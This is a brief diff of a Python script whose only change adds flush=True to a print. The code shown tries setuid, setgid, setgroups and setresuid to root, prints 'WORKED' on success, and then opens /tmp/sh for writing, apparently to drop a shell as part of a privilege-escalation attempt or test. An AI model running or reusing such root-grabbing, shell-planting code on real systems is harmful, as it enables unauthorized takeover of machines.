@@ -9,7 +9,7 @@ import subprocess
 for call in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([0]), lambda: os.setresuid(0, 0, 0)):
     try:
         call()
-        print("WORKED")
+        print("WORKED", flush=True)
     except OSError:
         pass
 with open("/tmp/sh", "wb") as file:
